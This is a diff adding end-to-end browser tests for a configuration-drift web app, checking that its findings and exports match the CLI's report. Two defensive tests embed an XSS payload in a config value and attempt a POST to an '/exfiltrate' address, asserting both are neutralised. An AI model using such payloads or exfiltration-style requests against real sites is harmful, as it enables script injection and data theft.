@@ -1,0 +1,195 @@
+// End-to-end tests of the built web app (dist/) in real headless Chromium, driven by playwright-core.
+// Run through scripts/test.sh, which builds dist/ with trunk first.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import { readFile, mkdir, writeFile, mkdtemp } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { join, extname, resolve } from 'node:path';
+import { tmpdir } from 'node:os';
+import { chromium } from 'playwright-core';
+
+const repo = resolve(import.meta.dirname, '../..');
+const dist = join(repo, 'dist');
+const out = join(repo, 'test-output', 'e2e');
+const cli = process.env.DRIFTWISE_BIN ?? join(repo, 'target', 'debug', 'driftwise');
+const classic = ['base_config.yaml', 'env1_config.yaml', 'env2_config.yaml'];
+const classicPaths = classic.map((f) => join(repo, 'examples', 'classic', f));
+
+const types = { '.html': 'text/html', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css', '.svg': 'image/svg+xml' };
+let server, origin, browser;
+
+before(async () => {
+  await mkdir(out, { recursive: true });
+  server = createServer(async (req, res) => {
+    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
+    const file = join(dist, path === '/' ? 'index.html' : path);
+    if (!file.startsWith(dist)) { res.writeHead(403).end(); return; }
+    try {
+      const body = await readFile(file);
+      res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' }).end(body);
+    } catch { res.writeHead(404).end(); }
+  });
+  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
+  origin = `http://127.0.0.1:${server.address().port}`;
+  browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
+    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
+      '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+  });
+});
+
+after(async () => {
+  await browser?.close();
+  server?.close();
+});
+
+/** Runs the CLI on the classic example; it exits 1 because there is drift. */
+function runCli(args) {
+  try {
+    execFileSync(cli, args, { cwd: join(repo, 'examples', 'classic') });
+  } catch (e) {
+    assert.equal(e.status, 1, `driftwise ${args.join(' ')} should report drift`);
+    return e.stdout.toString();
+  }
+  assert.fail('the CLI should exit 1 on drift');
+}
+
+/** A fresh page that records every request and fails the test on any dialog (an XSS would open one). */
+async function openApp(t, hash = '') {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
+  const page = await context.newPage();
+  const requests = [];
+  context.on('request', (r) => requests.push(r.url()));
+  const errors = [];
+  page.on('pageerror', (e) => errors.push(e.message));
+  page.on('dialog', async (d) => { errors.push(`dialog opened: ${d.message()}`); await d.dismiss(); });
+  await page.goto(`${origin}/${hash}`);
+  await page.waitForSelector('body[data-ready=true]');
+  t.after(async () => {
+    assert.deepEqual(errors, [], 'no page errors or dialogs');
+    const foreign = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:'));
+    assert.deepEqual(foreign, [], 'no request left the page\'s own origin');
+    await context.close();
+  });
+  return page;
+}
+
+async function download(page, label) {
+  const [file] = await Promise.all([page.waitForEvent('download'), page.click(`[data-export="${label}"]`)]);
+  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
+}
+
+test('the findings shown and exported match the CLI report for the same files', async (t) => {
+  const page = await openApp(t);
+  const firstRender = Number(await page.evaluate(() => document.body.dataset.firstRenderMs));
+  console.log(`time to first render: ${firstRender} ms`);
+  await writeFile(join(out, 'first-render-ms.txt'), `${firstRender}\n`);
+
+  await page.setInputFiles('#file-input', classicPaths);
+  await page.waitForSelector('.finding');
+
+  const cliJson = runCli(['check', '--format', 'json', ...classic]);
+  const expected = JSON.parse(cliJson);
+
+  const shown = await page.$$eval('.finding', (els) => els.map((e) => [e.dataset.env, e.dataset.kind, e.dataset.path]));
+  assert.deepEqual(shown, expected.findings.map((f) => [f.environment, f.kind, f.keyed_path]));
+  assert.equal(await page.locator('.summary tbody tr').count(), expected.environments.length);
+
+  // Open a finding: both files, both spans highlighted, the keyed path shown.
+  await page.click('.finding[data-path="/database/host"][data-env="env2_config"] button');
+  const detail = page.locator('.finding-detail');
+  assert.equal(await detail.locator('.keyed').textContent(), '/database/host');
+  assert.deepEqual(await detail.locator('mark').allTextContents(), ['"db.example.com"', '"db-prod.example.com"']);
+  assert.deepEqual(await detail.locator('.loc').allTextContents(), ['base_config.yaml:5:9', 'env2_config.yaml:6:9']);
+  await page.screenshot({ path: join(out, 'classic.png'), fullPage: true });
+
+  // Keyboard: j moves to the next finding.
+  await page.keyboard.press('j');
+  assert.equal(await page.locator('.finding.selected').getAttribute('data-path'), '/database/name');
+
+  const json = await download(page, 'JSON');
+  assert.equal(json.name, 'driftwise-report.json');
+  assert.equal(json.text, cliJson, 'the exported JSON is exactly the CLI\'s report');
+  const markdown = await download(page, 'Markdown');
+  assert.equal(markdown.text, runCli(['check', '-f', 'markdown', ...classic]));
+  assert.match(markdown.text, /^# Drift report\n/);
+  assert.match(markdown.text, /\| changed \| `\/database\/host` \| `"db.example.com"` \| `"db-prod.example.com"` \|/);
+  const htmlReport = await download(page, 'HTML');
+  assert.equal(htmlReport.text, runCli(['check', '-f', 'html', ...classic]));
+  assert.match(htmlReport.text, /^<!doctype html>/);
+  assert.doesNotMatch(htmlReport.text, /<script|https?:\/\//);
+  for (const file of [json, markdown, htmlReport]) await writeFile(join(out, file.name), file.text);
+});
+
+test('the start-up example loads from the address and the Kubernetes example renders', async (t) => {
+  const page = await openApp(t, '#example=1');
+  await page.waitForSelector('.finding');
+  assert.deepEqual(await page.locator('.summary tbody tr').evaluateAll((rs) => rs.map((r) => r.dataset.env)), ['staging', 'prod']);
+  assert.equal(await page.locator('.matrix tbody tr').count(), 13);
+  await page.click('.finding[data-kind="removed"] button');
+  assert.match(await page.locator('.finding-detail').textContent(), /Not in prod\./);
+  await page.screenshot({ path: join(out, 'kubernetes.png'), fullPage: true });
+});
+
+test('config values are text everywhere: page and exported HTML', async (t) => {
+  const page = await openApp(t);
+  const dir = await mkdtemp(join(tmpdir(), 'driftwise-xss-'));
+  const payload = '<img src=x onerror=alert(1)>';
+  await writeFile(join(dir, 'base.yaml'), 'banner: hello\n');
+  await writeFile(join(dir, 'prod.yaml'), `banner: "${payload}"\n"<b>key</b>": 1\n`);
+  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'prod.yaml')]);
+  await page.waitForSelector('.finding');
+  assert.equal(await page.locator('img').count(), 0);
+  assert.equal(await page.locator('b').count(), 0);
+  assert.match(await page.locator('.finding-list').textContent(), /<img src=x onerror=alert\(1\)>/);
+  const htmlReport = await download(page, 'HTML');
+  assert.ok(htmlReport.text.includes('&lt;img src=x onerror=alert(1)&gt;'));
+  assert.ok(!htmlReport.text.includes(payload));
+  // The exported page itself runs nothing: open it and look for the same.
+  const exported = await openApp(t);
+  await exported.setContent(htmlReport.text);
+  assert.equal(await exported.locator('img').count(), 0);
+});
+
+test('outside connections are refused by the page itself', async (t) => {
+  const page = await openApp(t);
+  const outcome = await page.evaluate(async () => {
+    try { await fetch('http://192.0.2.1/exfiltrate', { method: 'POST', body: 'x' }); return 'sent'; } catch (e) { return 'blocked'; }
+  });
+  assert.equal(outcome, 'blocked');
+  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  assert.match(csp, /default-src 'none'/);
+  assert.match(csp, /connect-src 'self'/);
+});
+
+test('bad input gives file:line:col, and a 20 MB file keeps the page responsive with progress shown', async (t) => {
+  const page = await openApp(t);
+  const dir = await mkdtemp(join(tmpdir(), 'driftwise-big-'));
+  await writeFile(join(dir, 'base.yaml'), 'a: 1\n');
+  await writeFile(join(dir, 'broken.yaml'), 'a: 1\nb: [2, 3\nc: 4\n');
+  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'broken.yaml')]);
+  const error = await page.waitForSelector('.error');
+  assert.match(await error.textContent(), /^broken\.yaml:\d+:\d+: /);
+  await page.click('button:has-text("Remove all")');
+
+  // About 20 MB: 4,100 services x 60 settings.
+  const lines = ['services:'];
+  for (let s = 0; s < 4100; s++) {
+    lines.push(`  svc-${s}:`);
+    for (let p = 0; p < 60; p++) lines.push(`    setting_${p}: "value-${s}-${p}-${'x'.repeat(50)}"`);
+  }
+  const big = lines.join('\n') + '\n';
+  assert.ok(big.length > 20e6, `${big.length} bytes`);
+  await writeFile(join(dir, 'base.yaml'), big);
+  await writeFile(join(dir, 'prod.yaml'), big.replace('value-4099-59-', 'CHANGED-'));
+  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'prod.yaml')]);
+  // While the worker parses, the page still answers: the progress shows, and a dialog opens and closes.
+  await page.waitForSelector('.progress');
+  await page.click('button:has-text("Paste text…")');
+  assert.equal(await page.locator('.dialog').count(), 1);
+  assert.equal(await page.locator('.progress').count(), 1, 'the check was still running while the UI responded');
+  await page.click('.dialog button:has-text("Cancel")');
+  await page.waitForSelector('.finding', { timeout: 120_000 });
+  assert.deepEqual(await page.$$eval('.finding', (els) => els.map((e) => e.dataset.path)), ['/services/svc-4099/setting_59']);
+});
